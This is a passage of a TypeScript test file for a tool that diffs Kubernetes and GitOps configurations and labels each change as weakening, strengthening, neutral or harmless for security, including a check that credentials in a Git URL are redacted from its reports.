    'neutral low quotas/disruption-changed: PodDisruptionBudget shop/api lets drained nodes take other numbers of pods: maxUnavailable 1.'],
  ['crd new version text', (o) => { the(o, 'CustomResourceDefinition').spec.versions[0].schema.openAPIV3Schema.description = 'x'; },
    'neutral low objects/schema-changed: CustomResourceDefinition widgets.example.com takes objects of another shape.'],
];

const HARMLESS: ReadonlyArray<readonly [string, Edit]> = [
  ['webhook rules split', (o) => { const w = the(o, 'ValidatingWebhookConfiguration').webhooks[0]; const r = w.rules[0]; w.rules = [{ ...r, operations: ['CREATE'] }, { ...r, operations: ['UPDATE'] }]; }],
  ['webhook default fields', (o) => { const w = the(o, 'ValidatingWebhookConfiguration').webhooks[0]; delete w.matchPolicy; delete w.namespaceSelector; delete w.objectSelector; delete w.failurePolicy; delete w.rules[0].scope; }],
  ['webhook ops reorder', (o) => { the(o, 'ValidatingWebhookConfiguration').webhooks[0].rules[0].operations.reverse(); }],
  ['caBundle rotated', (o) => { the(o, 'ValidatingWebhookConfiguration').webhooks[0].clientConfig.caBundle = 'REVG'; }],
  ['webhook port default', (o) => { the(o, 'ValidatingWebhookConfiguration').webhooks[0].clientConfig.service.port = 443; }],
  ['webhook timeout', (o) => { the(o, 'ValidatingWebhookConfiguration').webhooks[0].timeoutSeconds = 10; }],
  ['vap reorder', (o) => { the(o, 'ValidatingAdmissionPolicy').spec.validations.reverse(); }],
  ['vap whitespace', (o) => { the(o, 'ValidatingAdmissionPolicy').spec.validations[0].expression = 'object.spec.hostNetwork  !=\n true'; }],
  ['vap message', (o) => { the(o, 'ValidatingAdmissionPolicy').spec.validations[0].message = 'no'; }],
  ['project desc', (o) => { the(o, 'AppProject').spec.description = 'x'; }],
  ['project lists reorder', (o) => { const s = the(o, 'AppProject').spec; s.namespaceResourceWhitelist.reverse(); }],
  ['project explicit empty', (o) => { delete the(o, 'AppProject').spec.clusterResourceWhitelist; delete the(o, 'AppProject').spec.sourceNamespaces; }],
  ['interval', (o) => { the(o, 'GitRepository').spec.interval = '10m'; the(o, 'Kustomization').spec.interval = '1h'; }],
  ['ks health', (o) => { the(o, 'Kustomization').spec.wait = true; the(o, 'Kustomization').spec.timeout = '5m'; }],
  ['wf step renamed', (o) => { the(o, 'Workflow').jobs.build.steps[1].name = 'install'; }],
  ['wf job renamed', (o) => { const w = the(o, 'Workflow'); w.jobs = { compile: w.jobs.build }; }],
  ['wf perms moved to job only', (o) => { delete the(o, 'Workflow').permissions; }],
  ['wf on list', (o) => { the(o, 'Workflow').on = ['pull_request']; }],
  ['wf step twice', (o) => { the(o, 'Workflow').jobs.build.steps.push({ uses: 'actions/checkout@0123456789abcdef0123456789abcdef01234567', with: { 'persist-credentials': false } }); }],
  ['ingress other annotation', (o) => { the(o, 'Ingress').metadata.annotations['nginx.ingress.kubernetes.io/proxy-body-size'] = '8m'; }],
  ['ingress class annotation instead', (o) => { delete the(o, 'Ingress').spec.ingressClassName; the(o, 'Ingress').metadata.annotations['kubernetes.io/ingress.class'] = 'internal'; }],
  ['gateway from default', (o) => { delete the(o, 'Gateway', 'gw').spec.listeners[0].allowedRoutes; }],
  ['gw tls mode default', (o) => { delete the(o, 'Gateway', 'gw').spec.listeners[0].tls.mode; }],
  ['route reorder parents', (o) => { const r = the(o, 'HTTPRoute'); r.spec.parentRefs[0].group = 'gateway.networking.k8s.io'; r.spec.parentRefs[0].kind = 'Gateway'; }],
  ['svc annotation', (o) => { the(o, 'Service', 'lb').metadata.annotations.x = 'y'; }],
  ['lb internal other spelling', (o) => { the(o, 'Service', 'lb').metadata.annotations = { 'service.beta.kubernetes.io/aws-load-balancer-scheme': 'internal' }; }],
  ['cert renew', (o) => { the(o, 'Certificate').spec.renewBefore = '360h'; }],
  ['pa mode explicit', (o) => { the(o, 'PeerAuthentication').spec.portLevelMtls = { 8080: { mode: 'STRICT' } }; }],
  ['sidecar hosts', (o) => { the(o, 'Sidecar').spec.egress[0].hosts.push('istio-system/*'); }],
  ['ns label', (o) => { the(o, 'Namespace', 'shop').metadata.labels.cost = 'x'; }],
  ['gk excluded gone', (o) => { the(o, 'K8sRequired').spec.parameters = { a: 1 }; }],
  ['pc desc', (o) => { the(o, 'PriorityClass').description = 'x'; }],
  ['selector as an expression', (o) => { the(o, 'PeerAuthentication').spec.selector = { matchLabels: {} }; }],
];

describe('what is loosened is told as what weakens', () => {
  test.each(LOOSER.map(([what, edit, ...lines]) => [what, edit, lines] as const))('%s', (_what, edit, lines) => {
    const now = after(edit);
    expect(linesOf(BEFORE, now).sort()).toEqual([...lines].sort());
    expect(lines[0]).toMatch(/^weaker /);
  });
});

test.each(NEUTRAL.map(([what, edit, ...lines]) => [what, edit, lines] as const))('worth knowing: %s', (_what, edit, lines) => {
  expect(linesOf(BEFORE, after(edit)).sort()).toEqual([...lines].sort());
});

test.each(HARMLESS)('harmless: %s', (_what, edit) => {
  expect(linesOf(BEFORE, after(edit))).toEqual([]);
});

/** Where the one who reads it has to look either way. */
const EITHER_WAY = /changed$/;

test.each(LOOSER.map(([what, edit, ...lines]) => [what, edit, lines] as const))('%s is no danger when it is taken back', (_what, edit, lines) => {
  if (lines.some((line) => EITHER_WAY.test(line.split(':')[0]))) return;
  const back = linesOf(after(edit), BEFORE);
  expect(back.filter((line) => line.startsWith('weaker high') || line.startsWith('weaker critical'))).toEqual([]);
});

describe('a namespace that guards choose by its labels', () => {
  const exempt: Edit = (objects) => { the(objects, 'Namespace', 'other').metadata.labels.admission = 'off'; };
  const choosing: Edit = (objects) => {
    the(objects, 'ValidatingWebhookConfiguration').webhooks[0].namespaceSelector = { matchExpressions: [{ key: 'admission', operator: 'NotIn', values: ['off'] }] };
  };

  test('is told when they pass over it, and when they look at it again', () => {
    const before = after(choosing);
    const now = after((objects) => { choosing(objects); exempt(objects); });
    expect(linesOf(before, now)).toEqual(['weaker high namespaces/guard-lost: Namespace other has labels now that ValidatingWebhookConfiguration vwh passes over.']);
    expect(linesOf(now, before)).toEqual(['stronger high namespaces/guard-gained: Namespace other has labels now that ValidatingWebhookConfiguration vwh looks at.']);
  });

  test('is not told of where no guard reads the label', () => {
    expect(linesOf(BEFORE, after(exempt))).toEqual([]);
  });
});

test('a second webhook that looks at some namespaces only looks at more than none', () => {
  const lines = linesOf(BEFORE, after((objects) => {
    const { webhooks } = the(objects, 'ValidatingWebhookConfiguration');
    webhooks.push({ ...structuredClone(webhooks[0]), name: 'w.example.com', namespaceSelector: { matchLabels: { team: 'shop' } } });
  }));
  expect(lines.map((line) => line.split(' ', 1)[0])).toEqual(['stronger']);
});

test('what only follows new names is no danger, and other names are', () => {
  const renamedTo = (name: string): Edit => (objects) => {
    for (const account of objects.filter(({ kind, metadata }) => kind === 'ServiceAccount' && metadata.name === 'deployer')) account.metadata.name = name;
    the(objects, 'Kustomization').spec.serviceAccountName = 'shipper';
    the(objects, 'HelmRelease').spec.serviceAccountName = 'shipper';
  };
  expect(linesOf(BEFORE, after(renamedTo('shipper')))).toEqual([]);
  expect(linesOf(BEFORE, after(renamedTo('deployer'))).map((line) => line.split(':')[0])).toEqual(['weaker medium delivery/account-changed', 'weaker medium delivery/account-changed']);
});

test('another branch, to which others may write', () => {
  const onBranch = (branch: string): Edit => (objects) => { the(objects, 'GitRepository').spec.ref = { branch }; };
  expect(linesOf(after(onBranch('main')), after(onBranch('next')))).toEqual(['weaker medium delivery/revision-changed: GitRepository shop/repo follows another revision: branch next.']);
});

test('credentials in an address are told nowhere', () => {
  const changes = between(BEFORE, after((objects) => { the(objects, 'GitRepository').spec.url = 'https://robot:not-told@git.example.net/x.git'; })).changes;
  expect(changes.map(({ id }) => id)).toContain('delivery/source-changed');
  expect(JSON.stringify(changes)).not.toContain('not-told');
});
